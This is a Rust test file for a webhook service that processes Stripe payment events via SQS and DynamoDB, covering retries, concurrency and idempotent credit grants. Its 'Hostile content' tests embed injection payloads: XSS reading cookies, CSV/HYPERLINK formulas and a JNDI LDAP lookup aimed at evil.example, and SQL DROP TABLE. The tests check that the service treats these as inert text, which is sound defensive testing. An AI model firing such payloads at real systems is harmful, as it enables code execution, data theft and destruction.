                "evt_s",
                &[("/data/object/status", json!(status))],
            ))
            .await;
        assert_eq!(tier(&world, "user_1").await, expected, "{status}");
    }
}

#[tokio::test]
async fn s52_late_events_of_a_deleted_customer_revive_nothing() {
    let world = subscriber().await;
    world.process(&sample("customer.deleted", "user_1")).await;
    assert_eq!(tier(&world, "user_1").await, "free");
    world.process(&sample("customer.subscription.updated", "user_1")).await;
    world.process(&sample("customer.subscription.updated.upgrade", "user_1")).await;
    assert_eq!(tier(&world, "user_1").await, "free");
}

// -------------------------------------------------------------------------------------------------------- D.
// Processing and retries

#[tokio::test(start_paused = true)]
async fn s58_a_message_that_cannot_be_read_is_recorded_even_if_its_transaction_is_cancelled_at_first() {
    for code in ["TransactionConflict", "ThrottlingError", "ProvisionedThroughputExceeded", "SomethingNew"] {
        let world = World::new().await;
        let url = world.queue_url(Family::CheckoutSession);
        world.sqs.send_message().queue_url(url).message_body("not from the webhook").send().await.unwrap();
        let batch = world.receive(Family::CheckoutSession).await;
        world.fault(move |call| (call.operation == "TransactWriteItems").then(|| cancelled(call, "", code)));
        let answer = world.worker(Family::CheckoutSession).handle(batch.clone()).await.unwrap();
        assert_eq!(answer.batch_item_failures.len(), 1, "{code}: acknowledged without a trace");
        world.heal();
        world.delete(Family::CheckoutSession, &batch, &answer).await;
        world.settle().await;
        let tables = check_quiet(&world, &[], code).await;
        assert_eq!(
            tables.events.values().map(|event| &event["outcome"]).collect::<Vec<_>>(),
            ["parked"],
            "{code}"
        );
    }
}

#[tokio::test(start_paused = true)]
async fn s58_reads_that_come_in_parts_are_completed_or_repeated_later() {
    let world = subscriber().await;
    // Every answer has one key less to go.
    world.deliver(sample("invoice.paid.renewal", "user_1").to_string().as_bytes()).await;
    let batch = world.receive(Family::InvoicePaid).await;
    world.calls();
    world.fault(|call| (call.operation == "BatchGetItem").then_some(Fault::ReadFirst));
    let answer = world.worker(Family::InvoicePaid).handle(batch.clone()).await.unwrap();
    world.heal();
    let reads = world.operations().iter().filter(|operation| *operation == "BatchGetItem").count();
    assert!(reads >= 3 && answer.batch_item_failures.is_empty(), "{reads} reads");
    world.delete(Family::InvoicePaid, &batch, &answer).await;
    assert_eq!(credits(&world, "user_1").await, 5000);

    // None is ever processed: the event fails and comes again; it is never taken for an event of a user
    // without an account.
    let event = pack("unprocessed", "user_1", 1);
    world.deliver(event.to_string().as_bytes()).await;
    let batch = world.receive(Family::CheckoutSession).await;
    world.fault(|call| {
        let nothing =
            || Fault::Answer(200, json!({"Responses": {}, "UnprocessedKeys": call.request["RequestItems"]}));
        (call.operation == "BatchGetItem").then(nothing)
    });
    let answer = world.worker(Family::CheckoutSession).handle(batch.clone()).await.unwrap();
    assert_eq!(answer.batch_item_failures.len(), 1);
    world.settle().await;
    assert_eq!(check_quiet(&world, &[event], "S58").await.credits("user_1"), 6000);
}

#[tokio::test(start_paused = true)]
async fn s59_a_write_that_hangs_after_it_happened_is_found_to_have_happened() {
    for fault in [Fault::HangAfter, Fault::LoseReply] {
        let world = signed_up().await;
        let event = pack("hang", "user_1", 1);
        world.deliver(event.to_string().as_bytes()).await;
        let hung = fault.clone();
        let batch = world.receive(Family::CheckoutSession).await;
        world.fault(move |call| (call.operation == "TransactWriteItems").then(|| hung.clone()));
        let answer = world.worker(Family::CheckoutSession).handle(batch.clone()).await.unwrap();
        world.heal();
        assert_eq!(credits(&world, "user_1").await, 1500, "{fault:?}");
        world.delete(Family::CheckoutSession, &batch, &answer).await;
        world.pass_seconds(601);
        world.settle().await;
        assert_eq!(check_quiet(&world, &[event], "S59").await.credits("user_1"), 1500, "{fault:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn s59_a_token_in_use_or_used_for_something_else_is_repeated_under_a_new_one() {
    for kind in [
        "TransactionInProgressException",
        "IdempotentParameterMismatchException",
        "InternalServerError",
        "ThrottlingException",
    ] {
        let world = signed_up().await;
        let event = pack("token", "user_1", 1);
        world.deliver(event.to_string().as_bytes()).await;
        let tokens = Arc::new(Mutex::new(Vec::new()));
        let seen = tokens.clone();
        let batch = world.receive(Family::CheckoutSession).await;
        world.fault(move |call| {
            let token = call.request["ClientRequestToken"].as_str()?.to_owned();
            let mut seen = seen.lock().unwrap();
            let first = seen.is_empty();
            seen.push(token);
            first.then(|| aws_error(400, kind))
        });
        let answer = world.worker(Family::CheckoutSession).handle(batch.clone()).await.unwrap();
        world.heal();
        world.delete(Family::CheckoutSession, &batch, &answer).await;
        world.settle().await;
        assert_eq!(check_quiet(&world, &[event], kind).await.credits("user_1"), 1500, "{kind}");
        let tokens = tokens.lock().unwrap();
        assert!(!tokens.is_empty() && tokens.iter().all(|token| token.len() >= 36), "{kind}: {tokens:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn s60_a_failure_whose_delay_cannot_be_set_comes_back_with_its_visibility() {
    let world = signed_up().await;
    let event = pack("nodelay", "user_1", 1);
    world.deliver(event.to_string().as_bytes()).await;
    let batch = world.receive(Family::CheckoutSession).await;
    world.fault(|_| Some(Fault::LoseRequest));
    let answer = world.worker(Family::CheckoutSession).handle(batch.clone()).await.unwrap();
    assert_eq!(answer.batch_item_failures.len(), 1);
    world.heal();
    world.pass_seconds(179);
    assert_eq!(world.poll(Family::CheckoutSession).await, 0);
    world.pass_seconds(2);
    assert_eq!(world.poll(Family::CheckoutSession).await, 1);
    assert_eq!(check_quiet(&world, &[event], "S60").await.credits("user_1"), 1500);
}

#[tokio::test(start_paused = true)]
async fn s61_one_message_in_the_hands_of_many_workers_at_once_is_applied_once() {
    let world = signed_up().await;
    let events: Vec<Value> = (0..10).map(|number| pack(&format!("same{number}"), "user_1", 1)).collect();
    for event in &events {
        world.deliver(event.to_string().as_bytes()).await;
    }
    let batch = world.receive(Family::CheckoutSession).await;
    let worker = world.worker(Family::CheckoutSession);
    // The visibility is over while the first handler is still at it: a second receives the same messages.
    world.pass_seconds(181);
    let again = world.receive(Family::CheckoutSession).await;
    assert_eq!(again.records.len(), 10);
    let batches = [&batch, &again, &batch, &again];
    let answers = join_all(batches.iter().map(|batch| worker.handle((*batch).clone()))).await;
    for (batch, answer) in [(&batch, &answers[0]), (&again, &answers[1])] {
        // The first one's receipt handles may be stale; SQS accepts and ignores them.
        world.delete(Family::CheckoutSession, batch, answer.as_ref().unwrap()).await;
    }
    world.settle().await;
    let tables = check_quiet(&world, &events, "S61").await;
    assert_eq!(tables.credits("user_1"), 10_500);
}

#[tokio::test]
async fn s62_an_event_whose_marker_has_expired_still_grants_once() {
    let world = signed_up().await;
    let event = pack("expired", "user_1", 1);
    world.process(&event).await;
    let key = aws_sdk_dynamodb::types::AttributeValue::S("evt_expired".to_owned());
    world.dynamodb.delete_item().table_name("events").key("pk", key).send().await.unwrap();
    world.process(&event).await;
    assert_eq!(check_quiet(&world, &[event], "S62").await.credits("user_1"), 1500);
    let items = Tables::read(&world).await;
    assert!(
        items.accounts.values().all(|item| item["expires_at"].is_null()),
        "nothing of an account expires"
    );
}

#[tokio::test]
async fn s65_a_message_on_the_wrong_queue_or_without_our_attributes_is_parked_and_does_nothing() {
    let world = signed_up().await;
    world.process(&pack("done", "user_1", 1)).await;
    let attribute = |kind: &str, text: &str| {
        aws_sdk_sqs::types::MessageAttributeValue::builder()
            .data_type(kind)
            .string_value(text)
            .build()
            .unwrap()
    };
    let good = pack("hand", "user_1", 1).to_string();
    let done = pack("done", "user_1", 9).to_string();
    for (family, body, received, mode) in [
        (Family::CheckoutSession, good.as_str(), None, Some("any")),
        (Family::CheckoutSession, good.as_str(), Some("12"), None),
        (Family::CheckoutSession, good.as_str(), Some("soon"), Some("any")),
        (Family::CheckoutSession, good.as_str(), Some("12"), Some("root")),
        (Family::InvoicePaid, good.as_str(), Some("12"), Some("any")),
        (Family::InvoicePaid, done.as_str(), Some("12"), Some("any")),
        (Family::CheckoutSession, "[[[[", Some("12"), Some("any")),
    ] {
        let mut message = world.sqs.send_message().queue_url(world.queue_url(family)).message_body(body);
        if let Some(received) = received {
            message = message.message_attributes(
                "received_at",
                attribute("Number", if received == "soon" { "1e400" } else { received }),
            );
        }
        if let Some(mode) = mode {
            message = message.message_attributes("mode", attribute("String", mode));
        }
        // A number that SQS itself refuses never becomes a message.
        if message.send().await.is_ok() {
            world.drain().await;
        }
        assert_eq!(credits(&world, "user_1").await, 1500, "{family} {received:?} {mode:?}");
    }
    check_quiet(&world, &[], "S65").await;
    assert_eq!(outcome(&world, "evt_done").await.0, "processed", "what was finished stays finished");
    assert_eq!(outcome(&world, "evt_hand").await, ("parked".into(), "message".into()));
}

#[tokio::test]
async fn s66_one_event_id_with_two_contents_in_one_batch_keeps_the_first_and_parks_the_second() {
    let world = signed_up().await;
    let first = pack("tampered", "user_1", 1);
    let mut second = first.clone();
    second["data"]["object"]["metadata"]["quantity"] = json!("900");
    let mut twin = first.clone();
    twin["pending_webhooks"] = json!(9);
    for event in [&first, &second, &twin] {
        world.deliver(event.to_string().as_bytes()).await;
    }
    world.drain().await;
    let tables = check_quiet(&world, &[first], "S66").await;
    let parked: Vec<&Value> =
        tables.events.values().filter(|event| event["reason"] == "payload_mismatch").collect();
    assert_eq!(parked.len(), 1, "{:#?}", tables.events);
    let credits = tables.credits("user_1");
    assert!(
        credits == 1500 || credits == 500 + 900_000,
        "one of the two, whichever the queue hands out first: {credits}"
    );
}

#[tokio::test(start_paused = true)]
async fn s67_a_hundred_events_of_one_user_at_once_are_all_applied() {
    let world = signed_up().await;
    let events: Vec<Value> = (0..100).map(|number| pack(&format!("hot{number}"), "user_1", 1)).collect();
    join_all(events.iter().map(|event| async { world.deliver(event.to_string().as_bytes()).await })).await;
    let batches = join_all((0..10).map(|_| world.receive(Family::CheckoutSession))).await;
    let worker = world.worker(Family::CheckoutSession);
    let answers = join_all(batches.iter().map(|batch| worker.handle(batch.clone()))).await;
    let failed: usize = answers.iter().map(|answer| answer.as_ref().unwrap().batch_item_failures.len()).sum();
    for (batch, answer) in batches.iter().zip(answers) {
        world.delete(Family::CheckoutSession, batch, &answer.unwrap()).await;
    }
    println!("{failed} of 100 lost all their races within one invocation");
    world.settle().await;
    assert_eq!(check_quiet(&world, &events, "S67").await.credits("user_1"), 100_500);
}

// ---------------------------------------------------------------------------------------------------------------
// E. Hostile content

/// What people write into metadata is text to us: it names nothing, is no code, and is shown as it came.
#[tokio::test]
async fn s75_hostile_metadata_is_stored_and_answered_as_the_text_it_is() {
    let hostile = [
        ("script", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
        ("csv", "=HYPERLINK(\"http://evil.example\",\"pay\")"),
        ("csv_more", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("__proto__", "{\"isAdmin\":true}"),
        ("constructor", "prototype"),
        ("control", "\u{0}\u{1b}[31mred\u{7}\u{202e}txt.exe\r\nSet-Cookie: a=b"),
        ("sql", "'; DROP TABLE users; --"),
        ("template", "{{7*7}} ${jndi:ldap://evil.example/a} %s %n"),
    ];
    let world = signed_up().await;
    let mut event = pack("hostile", "user_1", 1);
    for (name, value) in hostile {
        event["data"]["object"]["metadata"][name] = json!(value);
    }
    event["data"]["object"]["metadata"]["long"] = json!("=1+1<b>".repeat(75_000));
    event["data"]["object"]["customer_details"]["name"] = json!(hostile[0].1);
    world.process(&event).await;
    assert_eq!(outcome(&world, "evt_hostile").await, ("processed".into(), "updated".into()));
    let (status, account) = world.app("GET", "/users/user_1", Value::Null, None).await;
    assert_eq!((status, &account["credits"], &account["tier"]), (200, &json!(1500), &json!("free")));
    let (status, told) = world.ask("GET", "/admin/stripe/webhook-logs/evt_hostile", Value::Null).await;
    assert_eq!(status, 200, "{told}");
    assert_eq!(told["payload"], event, "the payload is given back as it came");

    // Where such a text is itself the answer: the name of a plan that is not sold.
    for (number, (_, text)) in hostile.iter().enumerate() {
        let id = format!("evt_name{number}");
        let event = changed(pack("name", "user_1", 1), &id, &[("/data/object/metadata/pack", json!(text))]);
        world.process(&event).await;
        let record = world.event(&id).await.unwrap();
        assert_eq!(
            (record["outcome"].as_str(), record["reason"].as_str()),
            ("parked", "unknown_name"),
            "{text}"
        );
        let (_, told) = world.ask("GET", &format!("/admin/stripe/webhook-logs/{id}"), Value::Null).await;
        assert_eq!(told["event"]["message"], json!(record["message"]), "{told}");
        assert!(record["message"].contains(text), "{record:?}");
    }
    check_quiet(&world, &[event], "S75").await;
}

#[tokio::test]
async fn s76_hostile_ids_are_refused_before_they_become_keys() {
    let world = World::new().await;
    let before = world.everything().await;
    let long = format!("evt_{}", "x".repeat(10_000));
    for id in [
        "",
        "evt_",
        "evt_a#b",
        "evt_a b",
        "evt_a/b",
        "evt_\u{0}",
        "evt_a\u{202e}",
        "in_1",
        &long,
        "evt_1~00000000",
    ] {
        let event = with_id(pack("id", "user_1", 1), id);
        let (status, answer) = world.deliver(event.to_string().as_bytes()).await;
        assert_eq!((status, answer["error"].as_str()), (400, Some("malformed_event")), "{:.40}", id);
    }
    assert_eq!(world.everything().await, before, "I13");
    for (number, (pointer, id)) in [
        ("/data/object/id", "cs_a#b"),
        ("/data/object/id", ""),
        ("/data/object/customer", "cus_a#account"),
        ("/data/object/customer", long.as_str()),
        ("/data/object/payment_intent", "pi_\u{e9}"),
    ]
    .into_iter()
    .enumerate()
    {
        let event =
            changed(pack("inner", "user_1", 1), &format!("evt_inner{number}"), &[(pointer, json!(id))]);
        world.process(&event).await;
        world.settle().await;
        assert_eq!(outcome(&world, &format!("evt_inner{number}")).await.0, "parked", "{pointer} {:.40}", id);
    }
    assert_eq!(Tables::read(&world).await.accounts.len(), 0);
}

#[tokio::test(start_paused = true)]
async fn s80_spends_refunds_and_grants_at_once_lose_nothing_and_never_go_below_zero() {
    let world = buyer().await;
    let refund = with_id(sample("charge.refunded.full", "user_1"), "evt_refund");
    let mut events = vec![refund];
    events.extend((0..5).map(|number| pack(&format!("more{number}"), "user_1", 1)));
    for event in &events {
        world.deliver(event.to_string().as_bytes()).await;
    }
    let workers = join_all(
        [Family::Refund, Family::CheckoutSession, Family::CheckoutSession].map(|family| world.poll(family)),
    );
    let spends = join_all((0..40).map(|number| {
        let world = &world;
        async move {
            loop {
                match spend(world, 300, &format!("s{number}")).await {
                    503 => {}
                    status => return status,
                }
            }
        }
    }));
    let (_, statuses) = tokio::join!(workers, spends);
    world.settle().await;
    let tables = check_quiet(&world, &events, "S80").await;
    let spent = statuses.iter().filter(|status| **status == 200).count();
    assert!(statuses.iter().all(|status| [200, 402].contains(status)) && spent > 0, "{statuses:?}");
    let entry = tables.accounts.values().find(|item| item["kind"] == "refund").unwrap();
    let spent = i64::try_from(spent).unwrap() * 300;
    assert_eq!(tables.credits("user_1"), 6500 - spent + entry["delta"].as_i64().unwrap(), "{entry}");
}
